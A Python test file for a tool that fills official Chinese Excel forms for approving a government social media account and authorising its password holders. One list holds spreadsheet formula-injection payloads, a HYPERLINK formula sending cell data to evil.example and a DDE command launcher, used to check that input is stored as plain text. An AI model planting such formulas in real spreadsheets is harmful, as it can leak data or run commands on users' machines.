"""Filling the official form templates: golden values, names, overflow, print setup."""

from __future__ import annotations

import hashlib
import zipfile
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from newmedia_desk.domain.forms import Opinion
from newmedia_desk.exports.forms import (
    ACCOUNT_OPENING_FIELDS,
    ACCOUNT_OPENING_TEMPLATE,
    HOLDER_AUTHORISATION_FIELDS,
    HOLDER_AUTHORISATION_TEMPLATE,
    NOTE_NAME,
    export_account_opening,
    export_holder_authorisation,
    holder_names,
    opinion_names,
)
from newmedia_desk.exports.xlsx import (
    ExportError,
    ExportTooLongError,
    FormOverflowError,
    TemplateError,
    defined_names,
    resolve_name,
)
from newmedia_desk.paths import forms_dir
from tests.unit.exports.samples import (
    DATE_GUIDE,
    PURPOSE,
    holder_form,
    named_cells,
    named_values,
    opening_form,
)

OPENING_BLOCKS = 5
HOLDER_BLOCKS = 3
HOLDER_LINES = 4

NOTE_OPENING = "注：此表一式两份，党委宣传部、申请部门各留一份备案。"


def opening_names() -> set[str]:
    names = {*ACCOUNT_OPENING_FIELDS, NOTE_NAME}
    for block in range(1, OPENING_BLOCKS + 1):
        names.update(opinion_names(block))
    return names


def authorisation_names() -> set[str]:
    names = {*HOLDER_AUTHORISATION_FIELDS, NOTE_NAME}
    for block in range(1, HOLDER_BLOCKS + 1):
        names.update(opinion_names(block))
    for line in range(1, HOLDER_LINES + 1):
        names.update(holder_names(line))
    return names


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def style(cell: Any) -> tuple[object, ...]:
    font, align = cell.font, cell.alignment
    return (font.name, font.sz, font.b, align.horizontal, align.vertical, align.wrap_text)


def template_without(tmp_path: Path, template: str, name: str) -> Path:
    wb = load_workbook(forms_dir() / template)
    del wb.defined_names[name]
    path = tmp_path / f"no-{name}.xlsx"
    wb.save(path)
    return path


# -- the shipped templates ------------------------------------------------------------


@pytest.mark.parametrize(
    ("template", "expected"),
    [
        (ACCOUNT_OPENING_TEMPLATE, opening_names()),
        (HOLDER_AUTHORISATION_TEMPLATE, authorisation_names()),
    ],
)
def test_shipped_template_defines_exactly_the_names(template: str, expected: set[str]) -> None:
    wb = load_workbook(forms_dir() / template)
    assert defined_names(wb) == expected
    for name in expected:
        ws, coordinate = resolve_name(wb, name)
        assert ws.title == wb.worksheets[0].title
        assert coordinate


@pytest.mark.parametrize("template", [ACCOUNT_OPENING_TEMPLATE, HOLDER_AUTHORISATION_TEMPLATE])
def test_shipped_template_prints_on_one_a4_portrait_page(template: str) -> None:
    wb = load_workbook(forms_dir() / template)
    assert len(wb.worksheets) == 1
    ws = wb.worksheets[0]
    assert int(ws.page_setup.paperSize) == 9  # A4
    assert ws.page_setup.orientation == "portrait"
    assert ws.sheet_properties.pageSetUpPr.fitToPage is True
    assert int(ws.page_setup.fitToWidth) == 1
    assert int(ws.page_setup.fitToHeight) == 1
    assert ws.print_area, "a print area limits the page to the form"


@pytest.mark.parametrize("template", [ACCOUNT_OPENING_TEMPLATE, HOLDER_AUTHORISATION_TEMPLATE])
def test_every_named_cell_of_a_template_is_inside_the_print_area(template: str) -> None:
    from openpyxl.utils.cell import range_boundaries

    wb = load_workbook(forms_dir() / template)
    ws = wb.worksheets[0]
    area = ws.print_area.split("!")[-1].replace("$", "")
    min_col, min_row, max_col, max_row = range_boundaries(area)
    for name in defined_names(wb):
        _, coordinate = resolve_name(wb, name)
        cell = ws[coordinate]
        assert min_col <= cell.column <= max_col, name
        assert min_row <= cell.row <= max_row, name


# -- 开设审批表 -----------------------------------------------------------------------


def test_account_opening_golden_fill(tmp_path: Path) -> None:
    out = tmp_path / "开设审批表.xlsx"
    assert export_account_opening(opening_form(), out) == out
    values = named_values(out)
    assert values == {
        "unit": "市气象局办公室",
        "applied_on": datetime(2024, 3, 4),
        "platform": "官方微博",
        "account_name": "市气象局",
        "account_id": "shiqixiangju",
        "other_media": "微信公众号“市气象局”",
        "purpose": PURPOSE,
        "admin_name": "周文",
        "admin_position": "系统管理员",
        "admin_phone": "13800138000",
        "admin_qq": "123456789",
        "resp_name": "刘红",
        "resp_position": "办公室主任",
        "resp_phone": "0571-87650000",
        "op1_label": "申请部门意见",
        "op1_text": "同意。拟开设官方微博。",
        "op1_signer": "李明",
        "op1_date": datetime(2024, 3, 5),
        "op2_label": "党委宣传部意见",
        "op2_text": "同意。请做好内容审核。",
        "op2_signer": "王芳",
        "op2_date": datetime(2024, 3, 6),
        "op3_label": "申请部门主管领导意见",
        "op3_text": "同意\n（由副局长张强代为审核）",
        "op3_signer": "赵建国",
        "op3_date": datetime(2024, 3, 7),
        # Unsigned: the label prints; signer and date stay as the template has them.
        "op4_label": "主管领导意见",
        "op4_text": None,
        "op4_signer": None,
        "op4_date": DATE_GUIDE,
        "op5_label": "党委书记意见",
        "op5_text": None,
        "op5_signer": None,
        "op5_date": DATE_GUIDE,
        "audit_head": "审计日志 #123 1a2b3c4d5e6f7a8b",
        "printed_at": datetime(2024, 3, 8, 10, 15),
        "note": NOTE_OPENING,
    }


def test_account_opening_keeps_the_template_styles(tmp_path: Path) -> None:
    out = export_account_opening(opening_form(), tmp_path / "f.xlsx")
    filled = named_cells(out)
    blank = named_cells(forms_dir() / ACCOUNT_OPENING_TEMPLATE)
    for name in ("applied_on", "op1_date", "printed_at", "purpose"):
        assert filled[name].number_format == blank[name].number_format, name
        assert style(filled[name]) == style(blank[name]), name
    assert "年" in filled["applied_on"].number_format
    ws = load_workbook(out).worksheets[0]
    assert int(ws.page_setup.paperSize) == 9
    assert ws.sheet_properties.pageSetUpPr.fitToPage is True


def test_the_template_is_only_read(tmp_path: Path) -> None:
    template = tmp_path / "template.xlsx"
    template.write_bytes((forms_dir() / ACCOUNT_OPENING_TEMPLATE).read_bytes())
    before = digest(template)
    export_account_opening(opening_form(), tmp_path / "out.xlsx", template=template)
    assert digest(template) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.xlsx", "template.xlsx"]


def test_unused_opinion_blocks_are_emptied_and_hidden(tmp_path: Path) -> None:
    form = opening_form(opinions=opening_form().opinions[:3])
    out = export_account_opening(form, tmp_path / "f.xlsx")
    wb = load_workbook(out)
    ws = wb.worksheets[0]
    for block in (4, 5):
        for name in opinion_names(block):
            _, coordinate = resolve_name(wb, name)
            assert ws[coordinate].value is None, name
            assert ws.row_dimensions[ws[coordinate].row].hidden, name
    for name in opinion_names(3):
        _, coordinate = resolve_name(wb, name)
        assert not ws.row_dimensions[ws[coordinate].row].hidden, name
    _, note = resolve_name(wb, NOTE_NAME)
    assert not ws.row_dimensions[ws[note].row].hidden


def test_more_opinions_than_blocks_is_refused(tmp_path: Path) -> None:
    extra = Opinion("局长意见", "某某", "同意", "", date(2024, 3, 9))
    form = opening_form(opinions=(*opening_form().opinions, extra))
    out = tmp_path / "f.xlsx"
    with pytest.raises(FormOverflowError) as caught:
        export_account_opening(form, out)
    assert caught.value.code == "export_overflow"
    assert caught.value.params["count"] == 6
    assert caught.value.params["places"] == OPENING_BLOCKS
    assert not out.exists()


@pytest.mark.parametrize("name", ["admin_qq", "op3_signer", "printed_at"])
def test_missing_name_is_named(tmp_path: Path, name: str) -> None:
    template = template_without(tmp_path, ACCOUNT_OPENING_TEMPLATE, name)
    out = tmp_path / "f.xlsx"
    with pytest.raises(TemplateError, match=name) as caught:
        export_account_opening(opening_form(), out, template=template)
    assert caught.value.code == "export_template"
    assert caught.value.params["name"] == name
    assert not out.exists()


def test_missing_template_file(tmp_path: Path) -> None:
    with pytest.raises(TemplateError, match="nowhere"):
        export_account_opening(opening_form(), tmp_path / "f.xlsx", template=tmp_path / "nowhere")


def test_a_template_that_is_not_xlsx(tmp_path: Path) -> None:
    bad = tmp_path / "bad.xlsx"
    bad.write_bytes(b"not a zip")
    with pytest.raises(TemplateError):
        export_account_opening(opening_form(), tmp_path / "f.xlsx", template=bad)


def test_too_long_text_names_the_field_and_writes_nothing(tmp_path: Path) -> None:
    out = tmp_path / "f.xlsx"
    out.write_bytes(b"previous")
    with pytest.raises(ExportTooLongError) as caught:
        export_account_opening(opening_form(purpose="长" * 32_768), out)
    assert caught.value.code == "export_too_long"
    assert caught.value.params["field"] == "purpose"
    assert out.read_bytes() == b"previous"
    assert [p.name for p in tmp_path.iterdir()] == ["f.xlsx"]


def test_text_of_exactly_the_limit_is_kept_whole(tmp_path: Path) -> None:
    out = export_account_opening(opening_form(purpose="长" * 32_767), tmp_path / "f.xlsx")
    assert named_values(out)["purpose"] == "长" * 32_767


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1+2",
    "@SUM(1)",
    "\tindent",
    "=1+1",
]


def test_formula_like_fields_stay_text(tmp_path: Path) -> None:
    form = opening_form(
        account_name=FORMULAS[0],
        account_id=FORMULAS[1],
        other_media=FORMULAS[2],
        administrator_name=FORMULAS[3],
        administrator_qq=FORMULAS[4],
        responsible_name=FORMULAS[5],
        purpose=FORMULAS[6],
    )
    out = export_account_opening(form, tmp_path / "f.xlsx")
    cells = named_cells(out)
    fields = ["account_name", "account_id", "other_media", "admin_name", "admin_qq"]
    fields += ["resp_name", "purpose"]
    for field, text in zip(fields, FORMULAS, strict=True):
        assert cells[field].value == text, field
        assert cells[field].data_type == "s", field
    with zipfile.ZipFile(out) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        for sheet in sheets:
            assert b"<f>" not in archive.read(sheet)
            assert b"<f " not in archive.read(sheet)


def test_control_characters_and_lone_surrogates_still_reload(tmp_path: Path) -> None:
    form = opening_form(
        purpose="a\x00b\x1bc\ud800d\uffffe\r\nf",
        account_name="市\x0b气象局",
        opinions=(Opinion("申请部门意见", "李\x07明", "同意", "\udfff", date(2024, 3, 5)),),
    )
    out = export_account_opening(form, tmp_path / "f.xlsx")
    values = named_values(out)
    assert values["purpose"] == "a\ufffdb\ufffdc\ufffdd\ufffde\nf"
    assert values["account_name"] == "市\ufffd气象局"
    assert values["op1_signer"] == "李\ufffd明"
    assert values["op1_text"] == "同意。\ufffd"


def test_print_time_is_written_as_beijing_time(tmp_path: Path) -> None:
    from datetime import UTC

    late = datetime(2024, 3, 31, 16, 30, tzinfo=UTC)  # already 1 April in Beijing
    out = export_account_opening(opening_form(printed_at=late), tmp_path / "f.xlsx")
    assert named_values(out)["printed_at"] == datetime(2024, 4, 1, 0, 30)


def test_export_errors_are_desk_errors(tmp_path: Path) -> None:
    with pytest.raises(ExportError):
        export_account_opening(opening_form(), tmp_path / "missing-folder" / "f.xlsx")


# -- 授权审批表 -----------------------------------------------------------------------


def test_holder_authorisation_golden_fill(tmp_path: Path) -> None:
    out = tmp_path / "授权审批表.xlsx"
    assert export_holder_authorisation(holder_form(), out) == out
    values = named_values(out)
    expected = {
        "unit": "市气象局办公室",
        "account_platform": "新浪微博",
        "account_name": "市气象局",
        "account_id": "shiqixiangju",
        "holder1_name": "周文",
        "holder1_position": "系统管理员",
        "holder1_unit": "办公室",
        "holder1_phone": "13800138000",
        "holder1_granted_on": datetime(2024, 3, 10),
        "holder1_scope": "登录、发布",
        "holder2_name": "孙丽",
        "holder2_position": "信息员",
        "holder2_unit": "减灾科",
        "holder2_phone": "13900139000",
        "holder2_granted_on": None,
        "holder2_scope": "登录",
        "reason": "原知悉人调岗，申请授权周文、孙丽掌握账号密码。",
        "op1_label": "科室负责人意见",
        "op1_text": "同意",
        "op1_signer": "刘红",
        "op1_date": datetime(2024, 3, 9),
        "op2_label": "分管领导意见",
        "op2_text": "同意。请密封存档。",
        "op2_signer": "张强",
        "op2_date": datetime(2024, 3, 10),
        "op3_label": "主要领导意见",
        "op3_text": None,
        "op3_signer": None,
        "op3_date": DATE_GUIDE,
        "audit_head": "审计日志 #130 9f8e7d6c5b4a3210",
        "printed_at": datetime(2024, 3, 8, 10, 15),
    }
    for line in (3, 4):
        expected.update(dict.fromkeys(holder_names(line)))
    note = values.pop("note")
    assert values == expected
    assert isinstance(note, str)
    assert note.startswith("注：此表一式两份")
    assert "密封存档" in note


def test_more_holders_than_lines_is_refused(tmp_path: Path) -> None:
    line = holder_form().holders[0]
    out = tmp_path / "f.xlsx"
    with pytest.raises(FormOverflowError) as caught:
        export_holder_authorisation(holder_form(holders=(line,) * (HOLDER_LINES + 1)), out)
    assert caught.value.params == {"kind": "holders", "count": 5, "places": HOLDER_LINES}
    assert not out.exists()


def test_more_opinions_than_blocks_on_the_authorisation_form(tmp_path: Path) -> None:
    opinions = holder_form().opinions
    with pytest.raises(FormOverflowError, match="opinion"):
        export_holder_authorisation(
            holder_form(opinions=(*opinions, opinions[0])), tmp_path / "f.xlsx"
        )


def test_all_template_lines_can_be_used(tmp_path: Path) -> None:
    line = holder_form().holders[0]
    out = export_holder_authorisation(
        holder_form(holders=(line,) * HOLDER_LINES), tmp_path / "f.xlsx"
    )
    values = named_values(out)
    assert [values[f"holder{n}_name"] for n in range(1, HOLDER_LINES + 1)] == ["周文"] * 4


def test_a_holder_line_missing_one_name_is_reported(tmp_path: Path) -> None:
    template = template_without(tmp_path, HOLDER_AUTHORISATION_TEMPLATE, "holder3_phone")
    with pytest.raises(TemplateError, match="holder3_phone"):
        export_holder_authorisation(holder_form(), tmp_path / "f.xlsx", template=template)


def test_a_restyled_template_with_fewer_lines_still_works_when_they_suffice(
    tmp_path: Path,
) -> None:
    wb = load_workbook(forms_dir() / HOLDER_AUTHORISATION_TEMPLATE)
    for line in (3, 4):
        for name in holder_names(line):
            del wb.defined_names[name]
    template = tmp_path / "two-lines.xlsx"
    wb.save(template)
    out = export_holder_authorisation(holder_form(), tmp_path / "f.xlsx", template=template)
    assert named_values(out)["holder2_name"] == "孙丽"
    first = holder_form().holders[0]
    with pytest.raises(FormOverflowError):
        export_holder_authorisation(
            holder_form(holders=(first,) * 3), tmp_path / "g.xlsx", template=template
        )
